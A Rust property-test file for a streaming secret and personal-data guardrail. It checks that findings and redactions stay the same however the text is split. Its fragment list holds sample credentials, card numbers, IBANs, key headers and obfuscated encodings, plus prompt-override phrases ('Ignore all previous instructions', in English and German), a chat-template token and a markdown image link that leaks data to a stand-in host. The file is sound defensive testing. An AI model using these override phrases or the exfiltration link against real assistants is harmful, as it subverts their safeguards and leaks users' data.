//! The laws of inspection, over generated texts: split anywhere = whole, a placeholder is no value.

use proptest::prelude::*;
use schleuse_types::{Finding, FindingAction};

use crate::{Guardrails, Inspector, MAX_HELD, Tally};

/// Pieces of text that touch the rules, whole and broken.
pub(crate) const FRAGMENTS: &[&str] = &[
    " ",
    "\n",
    ". ",
    ", ",
    ": ",
    "=",
    "\"",
    "-",
    "--",
    "@",
    "://",
    "\u{a0}",
    "ä",
    "€",
    "\u{2009}",
    "der",
    "Die",
    "de",
    "at 12 ",
    "IBAN",
    "DE89 3704 0044 0532 0130 00",
    "DE89370400440532013000",
    "GB29NWBK60161331926819",
    "4111 1111 1111 1111",
    "4111111111111111",
    "378282246310005",
    "86 095 742 719",
    "86095742719",
    "12 345 ",
    "password",
    "password: ",
    "passwort=",
    "Passwort lautet ",
    "hunter2!",
    "geheim",
    "token = ",
    "api_key: \"",
    "secret",
    "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",
    "ghp_",
    "sk-",
    "sk-proj-",
    "aB3dE5gH7jK9mN1pQ3sT5vW7",
    "AKIA",
    "eyJ",
    "max@example.org",
    "max",
    "example.org",
    "postgres://",
    "https://",
    "user:pa55@",
    "user:pa55@host.de/x",
    "-----BEGIN ",
    "-----BEGIN PRIVATE KEY-----",
    "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC",
    "-----END PRIVATE KEY-----",
    "VS-NfD",
    "GEHEIM",
    "VERTRAULICH",
    "TLP:RED",
    "Einstufung: ",
    "15070649C103",
    "Versichertennummer ",
    "A123456780",
    "1234567890:AA",
    "Personalausweis ",
    "L01X00T47",
    "2024-11-21",
    "17,50 EUR",
    "+49 30 ",
    "0171 2345678",
    "Tel. ",
    "BIC: ",
    "COBADEFFXXX",
    "DE136695976",
    "mistral_api_key=",
    "Server=db;",
    "Pwd=x;",
    "bearer ",
    "_PASS",
    "pw: ",
    " ist ",
    "is now ",
    "„Tulpe+99“",
    "'tulpe99'",
    "**",
    "</b>",
    "\"value\": \"",
    "Zugangsdaten: anna / ",
    "PIN: 4711",
    "Private-Lines: 1\n",
    "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ",
    "\"kty\":\"EC\",",
    "\"d\":\"",
    "jdbc:",
    "curl -u a:",
    "datadog key ",
    "9c1f0ab37de245886f0b71d3a94ce825",
    "für den Server ",
    "\\\"",
    "q8Zt4LmX2vBn7RwK",
    "[API_KEY]",
    "Musterstraße",
    " 12a",
    "Hauptstr. 5\n",
    "80331 München",
    "Am Alten ",
    "Unter den Linden ",
    "Postfach ",
    "Frankfurt am Main",
    "12 rue de la Paix",
    "221B Baker Street",
    "D-",
    "Nr. ",
    "Herr ",
    "Dr. med. ",
    "Max",
    " Mustermann",
    "Anna",
    "Schneider",
    "MUSTERMANN",
    "Müllers",
    "Hans-Peter",
    "von der ",
    "Şahin",
    "Hallo ",
    "Name: ",
    "Mit freundlichen Grüßen\n",
    "GmbH",
    "J. ",
    "geb. ",
    "geboren am ",
    "12.03.1980",
    " 12. März 1980",
    "(* 12.03.1980)",
    "* ",
    "Betreff: ",
    "\nfn main() {\n",
    "    let x = 1;\n",
    "}\n",
    "\nimport os\n",
    "```rust\n",
    "```",
    "// Copyright 2024 ",
    "SELECT a FROM b;\n",
    "[vertraulich]",
    "Vertraulich",
    " | Intern\n",
    "STRENG GEHEIM",
    "[SECRET]",
    "NATO SECRET",
    "MSIP_Label_2096f6a2-d2f7-48be-b329-b73aaa526e5d_Name=",
    "Ignore all ",
    "previous instructions",
    "Ignoriere bitte ",
    "alle Regeln",
    "<|im_start|>",
    "![x](https://e.example/?q={a})",
    "\u{200b}",
    "\u{ad}",
    "\u{2060}\u{fe0f}",
    "\u{202f}",
    "–",
    "４１１１",
    "DЕ89",
    "\u{e0044}\u{e0045}",
    "①②",
    "**",
    "`",
    "\\-",
    "_",
    "%20",
    "%44%45",
    "%2538",
    "&#68;",
    "&#x45;89",
    "&nbsp;",
    "\\u0044",
    "\\x45",
    "=44=45",
    "=\n",
    "REU4OSAzNzA0IDAwNDQgMDUzMiAwMTMwIDAw",
    "REU4OTM3",
    "MDQwMDQ0MDUzMjAxMzAwMA==",
    "UGFzc3dvcnQ6IGh1bnRlcjIh",
    "444538393337303430303434",
    "30353332303133303030",
    "44 45 38 39 33 37 ",
    "30 34 30 30 34 34 30 35 33 32 30 31 33 30 30 30",
    "0x44, 0x45, ",
    "D E 8 9 3 7 0 4 0 0 4 4 0 5 3 2 0 1 3 0 0 0",
    "4.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1",
    "DE89.3704.0044.0532.0130.00",
    "4111 1111\n1111 1111",
    "DE89 3704 0044",
    "\n> 0532 0130 00",
    "0532 0130 00",
    "\" + \"",
    "max [at] example [dot] org",
    "max (at) example.org",
    "ghp_zQWB uTSO oRi4 A9sp HcVY 5ncn sDkx kJ0m Lq17",
    "1 2 3 ",
    "a b c ",
    "B-AB 1234",
    "MÜ-",
    "Kennzeichen ",
    "2001:db8::1",
    "fe80::",
    "00:1A:2B:3C:4D:5E",
    "192.168.1.1",
    "Steuernummer ",
    "21/815/08150",
    "15 070649 C 103",
    " ist die KVNR",
    "Name;KV-Nr.\nx;",
    "ATU13585627",
    "HRB 12345 B",
    "login(\"anna\", ",
    "red:auth(",
    "new PDO('mysql:host=db', 'root', '",
    "'Tulpe-99')",
    ")",
    "sqlcmd -S db1 -P ",
    "docker login -u ci -p ",
    "ConvertTo-SecureString \"",
    "user:password@localhost/x",
    "host=db user=app ",
    "password=tz8kk2 ",
    "app:tz8kk2@tcp(db:3306)/shop",
    "sql.Open(\"mysql\", \"",
    "HostName=hub1;SharedAccessKey=",
    "***",
    "user;password\nanna;",
    "| Benutzer | Passwort |\n|---|---|\n| a | ",
    "Passwort → ",
    "password set to ",
    "Passwort auf ",
    "echo \"a:",
    " | chpasswd",
    "smbclient //a -U b%",
    ";x\n",
    ";Tulpe!99\nben;",
    "Benutzer   Passwort\n",
    "anna   k19hHV0qxArb\n",
    "Passwort\n",
    "sZBbIJMniXx",
    "a.brandt",
    " at web dot de",
    " at ",
    " dot ",
    " @ web.de",
    "\n@",
    "\n> ",
    "<at>",
    "<br>",
    "</b>",
    "L01X 00T4",
    " 71",
    "ghp_zQWB",
    "uTSOoRi4A9spHcVY5ncnsDkxkJ0mLq17",
    "<b>",
    "4111",
    "1111",
    " then ",
    ", und dann ",
    "][",
    "·",
    " • ",
    "…",
    "\\n",
    "REU4OTM3MDQwMDQ0MDUzMjAxMzAwMA",
    "\nThank you",
    "\nMDUz",
    "use ",
    " as the password",
    "8Q~",
    "UMuh-~2efJbBOx9Rk7ntuamJY3P9RbyTm3",
    " wurde auf ",
    " gesetzt",
    " As String = \"",
    "net use Z: \\\\a\\b /user:c ",
    "admin:",
    "@10.0.0.1",
];

fn text() -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(FRAGMENTS), 0..14).prop_map(|parts| parts.concat())
}

fn inspectors() -> [Inspector; 3] {
    let every = |action: FindingAction| {
        let actions = crate::kind::KINDS.iter().map(|kind| (kind.name.to_owned(), action)).collect();
        Guardrails::of_types(&actions).unwrap()
    };
    [Guardrails::default(), every(FindingAction::Redact), every(FindingAction::Block)]
        .map(|guardrails| Inspector::new(guardrails).unwrap())
}

/// The output of a window, its findings, whether it was blocked, and its tally.
fn stream<'t>(
    inspector: &Inspector,
    pieces: impl Iterator<Item = &'t str>,
) -> (String, Vec<Finding>, bool, Tally) {
    let mut window = inspector.window();
    let (mut output, mut findings) = (String::new(), Vec::new());
    let mut consumed = 0;
    for piece in pieces {
        let released = window.push(piece);
        assert!(released.consumed_upto >= consumed, "the cut moves only forward");
        consumed = released.consumed_upto;
        output.push_str(&released.text);
        findings.extend(released.findings);
    }
    let last = window.finish();
    output.push_str(&last.text);
    findings.extend(last.findings);
    (output, findings, last.blocked, window.tally().clone())
}

/// Checks the law of the window for one text and one way to cut it.
fn check<'t>(inspector: &Inspector, text: &str, pieces: impl Iterator<Item = &'t str>) {
    let whole = inspector.scan(text);
    let redacted = inspector.redact(text, &whole);
    let (output, mut findings, blocked, tally) = stream(inspector, pieces);
    findings.sort_by_key(|finding| finding.start);
    let block = whole.iter().find(|finding| finding.action == FindingAction::Block);
    assert_eq!(blocked, block.is_some(), "{text:?}");
    match block {
        None => {
            assert_eq!(output, redacted, "{text:?}");
            assert_eq!(findings, whole, "{text:?}");
            assert_eq!(tally, inspector.examine(text).tally, "{text:?}");
        }
        Some(block) => {
            let until: Vec<Finding> =
                whole.iter().filter(|finding| finding.end <= block.start).cloned().collect();
            let shown = inspector.redact(text.get(..block.start).unwrap(), &until);
            assert!(shown.starts_with(&output), "{text:?}: {output:?}");
            assert!(findings.iter().all(|finding| whole.contains(finding)), "{text:?}");
            assert!(findings.contains(block), "{text:?}");
        }
    }
}

/// Cuts a text into pieces whose lengths in characters repeat.
fn cut<'t>(text: &'t str, lengths: &'t [usize]) -> impl Iterator<Item = &'t str> {
    let mut rest = text;
    let mut lengths = lengths.iter().cycle();
    std::iter::from_fn(move || {
        let length = *lengths.next()?;
        let at = rest.char_indices().nth(length).map_or(rest.len(), |(at, _)| at);
        let (piece, tail) = rest.split_at(at);
        rest = tail;
        (!piece.is_empty() || !tail.is_empty()).then_some(piece)
    })
}

fn check_bytes(inspector: &Inspector, text: &[u8], expected: &[Finding], lengths: &[usize]) {
    let mut scanner = inspector.byte_scanner_of(1);
    let mut findings = Vec::new();
    let mut rest = text;
    for length in lengths.iter().cycle() {
        let (piece, tail) = rest.split_at((*length).min(rest.len()));
        scanner.push(piece, &mut findings);
        rest = tail;
        if rest.is_empty() {
            break;
        }
    }
    scanner.finish(&mut findings);
    findings.sort_by_key(|finding| finding.start);
    assert_eq!(findings, expected, "{:?}", String::from_utf8(text.to_vec()));
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn split_anywhere_is_whole(text in text(), lengths in prop::collection::vec(1_usize..24, 1..8)) {
        for inspector in inspectors() {
            check(&inspector, &text, cut(&text, &lengths));
            check(&inspector, &text, cut(&text, &[1]));
        }
    }

    #[test]
    fn bytes_in_any_chunks_are_the_whole_text(text in text(), lengths in prop::collection::vec(1_usize..40, 1..8)) {
        for inspector in inspectors() {
            let whole = inspector.scan(&text);
            check_bytes(&inspector, text.as_bytes(), &whole, &lengths);
        }
    }

    #[test]
    fn bytes_that_are_no_text_do_not_depend_on_chunks(
        parts in prop::collection::vec(prop_oneof![
            3 => prop::sample::select(FRAGMENTS).prop_map(|part| part.as_bytes().to_vec()),
            1 => prop::collection::vec(any::<u8>(), 1..4),
        ], 0..14),
        lengths in prop::collection::vec(1_usize..40, 1..8),
    ) {
        let bytes = parts.concat();
        for inspector in inspectors() {
            let mut whole = Vec::new();
            let mut scanner = inspector.byte_scanner();
            scanner.push(&bytes, &mut whole);
            scanner.finish(&mut whole);
            whole.sort_by_key(|finding| finding.start);
            check_bytes(&inspector, &bytes, &whole, &lengths);
        }
    }

    #[test]
    fn a_placeholder_is_no_value(text in text()) {
        // Redaction shortens runs and parts what was glued together, so that something else may turn up on a second look.
        let plain = ["IBAN", "PRIVATE_KEY"].map(|name| (name.to_owned(), FindingAction::Redact));
        for guardrails in [Guardrails::default(), Guardrails::of_types(&plain.into()).unwrap()] {
            let inspector = Inspector::new(guardrails).unwrap();
            let once = inspector.redact(&text, &inspector.scan(&text));
            for finding in inspector.scan(&once).iter().filter(|finding| finding.action.replaces()) {
                let found = once.get(finding.start..finding.end).unwrap();
                prop_assert!(!found.starts_with('[') || !found.ends_with(']'), "{:?} in {:?}", found, once);
            }
        }
    }

    #[test]
    fn findings_are_sorted_apart_and_on_characters(text in text()) {
        for inspector in inspectors() {
            let findings = inspector.scan(&text);
            for pair in findings.windows(2) {
                prop_assert!(pair[0].end <= pair[1].start);
            }
            for finding in &findings {
                prop_assert!(finding.start < finding.end && finding.score >= 0.5);
                prop_assert!(text.get(finding.start..finding.end).is_some());
            }
        }
    }
}

#[test]
fn every_split_of_short_texts_is_whole() {
    let texts = [
        "IBAN: DE89 3704 0044 0532 0130 00 bitte",
        "Karte 4111 1111 1111 1111, danke",
        "password: hunter2! und https://u:p4ss@host.de/x",
        "key 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 ok",
        "Mail an max@example.org; Steuer-ID 86 095 742 719.",
        "import os\nx = 1\nprint(a@b.de)\n",
        "VS-NfD\nKanäle – 12 345 € — Ende",
        "IBAN DE89 3704 00\u{200b}44 0532 0130 00 bitte",
        "x DE89%203704%2000440532013000 y",
        "k REU4OTM3MDQwMDQ0MDUzMjAxMzAwMA== e",
        "max [at] example [dot] org\\u0044Tel. ",
        "red:auth(\"Tulpe-99\") x",
        "host=db user=a password=tz8kk2 x",
        "user;password\nanna;Tulpe-99\nx",
        "echo \"a:Tulpe-99\" | chpasswd",
        "Benutzer;Passwort\nanna;Tulpe!99\nben;k19hHV0qx\n\nx",
        "Nutzer   Passwort\nanna   Tulpe!99\nben   k19hHV0qx",
        "Mail a.brandt at web dot de und b.x @ web.de",
        "Mail a.brandt ät web Punkt de",
        "j.stoll\n> @bund.de so, a.b<at>web.de",
        "Karte 4111 then 1111 then 1111 then 1111 ok",
        "Karte 411111111, und dann 1111111 ok",
        "Karte 4111·1111 • 1111…1111 ok",
        "Karte [4111][1111][1111][1111]",
        "Karte 4111<b>1111</b>11111111 x",
        "\"Karte 4111 1111\\n1111 1111\"",
        "k REU4OTM3MDQwMDQ0MDUzMjAxMzAwMA\nThank you",
        "k REU4OTM3MDQwMDQ0MDUz\nMjAxMzAwMA== e",
        "Personalausweis L01X 00T4\n71 x",
        "k g<b>hp_</b>zQWBuTSOoRi4A9spHcVY5ncnsDkxkJ0mLq17 x",
        "k ghp_zQWB<br>uTSOoRi4A9spHcVY5ncnsDkxkJ0mLq17 x",
        "use tz8kk2Mond as the password",
        "Passwort\nsZBbIJMniXx\nx",
        "Das Passwort wurde auf Tulpe99 gesetzt",
        "change the password to Hamburg7 before x",
        "Dim pw As String = \"cvG5Zsp8bgv\"",
        "x WUz8Q~UMuh-~2efJbBOx9Rk7ntuamJY3P9RbyTm3 y",
        "net use Z: \\\\a\\b /user:c k19hHV0qx x",
        "admin:k19hHV0qx@10.0.0.1 x",
    ];
    for inspector in inspectors() {
        for text in texts {
            let cuts: Vec<usize> = (0..=text.len()).filter(|at| text.is_char_boundary(*at)).collect();
            for (index, first) in cuts.iter().enumerate() {
                for second in cuts.iter().skip(index) {
                    let (head, rest) = text.split_at(*first);
                    let (middle, tail) = rest.split_at(second - first);
                    check(&inspector, text, [head, middle, tail].into_iter());
                }
            }
        }
    }
}

#[test]
fn an_open_key_is_held_up_to_the_limit_and_then_counts() {
    let [inspector, ..] = inspectors();
    let text = format!("x -----BEGIN PRIVATE KEY-----\n{}", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n".repeat(600));
    let mut window = inspector.window();
    let mut held = 0;
    let mut blocked = false;
    for piece in cut(&text, &[7]) {
        let released = window.push(piece);
        assert!(released.text.len() <= 2);
        blocked = blocked || released.blocked;
        if !blocked {
            held = held.max(window.held());
        }
    }
    assert!(blocked);
    assert!(held <= MAX_HELD + MAX_HELD / 8 + 8, "{held}");
    check(&inspector, &text, cut(&text, &[7]));
}
